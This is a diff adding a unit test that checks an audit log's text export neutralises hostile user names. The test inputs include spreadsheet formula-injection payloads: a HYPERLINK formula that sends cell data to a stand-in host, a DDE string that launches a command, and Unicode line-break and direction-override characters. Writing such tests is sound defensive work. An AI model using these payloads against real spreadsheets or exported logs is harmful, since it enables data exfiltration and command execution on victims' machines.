@@ -42,6 +42,25 @@ describe('AuditLog', () => {
     expect(audit.exportText().split('\n').filter(Boolean)).toHaveLength(1);
   });
 
+  it('exports spreadsheet formulas and invisible line breaks from attempted user names as text', () => {
+    const attempts = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1)', 'ad\u2028min', 'ad\u2029min', 'ad\u0085min', 'ad\u202Enimda', 'tab\tname'];
+    for (const username of attempts) audit.record({ username, sourceAddress: '127.0.0.1', action: 'login.failed', detail: 'unknown user' });
+    const lines = audit.exportText().split('\n').filter(Boolean);
+    expect(lines).toEqual([
+      `2026-11-21T05:40:00.000Z '=HYPERLINK("http://evil.example/?"&A1,"Click")@127.0.0.1 login.failed unknown user`,
+      `2026-11-21T05:40:00.000Z '+cmd|' /C calc'!A0@127.0.0.1 login.failed unknown user`,
+      `2026-11-21T05:40:00.000Z '-2+3@127.0.0.1 login.failed unknown user`,
+      `2026-11-21T05:40:00.000Z '@SUM(A1)@127.0.0.1 login.failed unknown user`,
+      '2026-11-21T05:40:00.000Z ad\\u2028min@127.0.0.1 login.failed unknown user',
+      '2026-11-21T05:40:00.000Z ad\\u2029min@127.0.0.1 login.failed unknown user',
+      '2026-11-21T05:40:00.000Z ad\\u0085min@127.0.0.1 login.failed unknown user',
+      '2026-11-21T05:40:00.000Z ad\\u202enimda@127.0.0.1 login.failed unknown user',
+      '2026-11-21T05:40:00.000Z tab name@127.0.0.1 login.failed unknown user',
+    ]);
+    // What a terminal or an editor would take as a line break or a direction change is gone from the file.
+    expect(audit.exportText()).not.toMatch(/[\u2028\u2029\u0085\u202e\t\r]/);
+  });
+
   it('returns the most recent entries oldest first', () => {
     for (const action of ['login', 'upgrade.download', 'upgrade.activate', 'logout'] as const) {
       audit.record({ username: 'admin', sourceAddress: '127.0.0.1', action });
